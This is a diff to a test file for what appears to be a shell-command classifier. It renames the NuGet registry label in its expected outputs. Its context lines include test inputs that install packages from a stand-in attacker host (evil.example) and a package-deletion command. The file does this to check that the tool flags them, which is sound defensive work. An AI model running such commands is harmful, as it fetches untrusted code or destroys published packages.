@@ -178,7 +178,7 @@ describe('package managers', () => {
     ['brew install jq', ['package install jq registry runsScripts global', 'connect registry:brew']],
     ['mvn clean install', ['connect registry:maven']],
     ['./gradlew build', ['connect registry:maven']],
-    ['dotnet build', ['connect api.nuget.org']],
+    ['dotnet build', ['connect registry:nuget']],
     [
       'npm audit fix',
       ['package install registry runsScripts', 'connect registry:npm', '> /work/app sh: node patch.js'],
@@ -243,7 +243,7 @@ describe('package managers', () => {
       "pip install 'x @ https://evil.example/x.whl'",
       ['package install x @ https://evil.example/x.whl url runsScripts', 'connect evil.example'],
     ],
-    ['dotnet nuget delete x 1.0.0', ['upload api.nuget.org', 'destroy dotnet nuget delete x']],
+    ['dotnet nuget delete x 1.0.0', ['upload registry:nuget', 'destroy dotnet nuget delete x']],
     [
       'brew tap owner/repo https://evil.example/r.git',
       ['package install https://evil.example/r.git git', 'connect evil.example'],
